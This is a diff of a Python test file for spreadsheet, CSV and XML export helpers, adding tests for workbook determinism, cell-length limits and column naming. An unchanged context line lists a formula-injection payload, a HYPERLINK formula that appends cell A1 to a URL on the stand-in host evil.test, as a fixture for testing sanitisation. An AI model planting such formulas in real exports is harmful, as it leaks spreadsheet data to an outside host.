@@ -9,8 +9,9 @@ import pytest
 from lxml import etree
 from openpyxl import load_workbook
 
-from kip_pages.formats.spreadsheet import BYTE_ORDER_MARK, csv_text, harmless, workbook
+from kip_pages.formats.csv_table import BYTE_ORDER_MARK, csv_text, harmless
 from kip_pages.formats.text import web_address, xml_text
+from kip_pages.formats.workbook import CELL_CHARACTERS, workbook
 
 DANGEROUS = [
     '=HYPERLINK("https://evil.test?"&A1,"Klik")',
@@ -127,7 +128,7 @@ def test_a_workbook_has_dates_where_the_day_is_known_and_text_where_it_is_not():
         datetime.datetime(2026, 11, 24, 8),  # noqa: DTZ001
         None,
     ]
-    assert rows[1][1].number_format == "yyyy-mm-dd"
+    assert rows[1][1].number_format == r"yyyy\-mm\-dd"
     assert sheet.auto_filter.ref == "A1:F2"
     assert sheet.freeze_panes == "C2"
     assert rows[0][0].font.bold
@@ -151,6 +152,28 @@ def test_a_workbook_has_dates_where_the_day_is_known_and_text_where_it_is_not():
 )
 def test_an_address_is_written_as_a_uri_or_is_none(received, usable):
     assert web_address(received) == usable
+
+
+def test_a_workbook_is_the_same_bytes_for_the_same_rows_and_leaves_in_pieces():
+    def made():
+        return list(workbook("Daftar", list("AB"), ([n, f"Judul {n}"] for n in range(1000))))
+
+    assert made() == made()
+    assert len(made()) > 5
+
+
+def test_a_workbook_cuts_what_excel_would_refuse():
+    content = b"".join(workbook("Daftar", ["A"], [["a" * (CELL_CHARACTERS + 1)]]))
+    _sheet, rows = open_workbook(content)
+    assert len(rows[1][0].value) == CELL_CHARACTERS
+
+
+def test_columns_of_a_workbook_beyond_z_have_two_letters():
+    sheet, rows = open_workbook(
+        b"".join(workbook("D", [f"K{n}" for n in range(30)], [[*range(30)]]))
+    )
+    assert sheet.dimensions == "A1:AD2"
+    assert [cell.value for cell in rows[1]] == [*range(30)]
 
 
 def test_xml_text_keeps_everything_xml_allows():
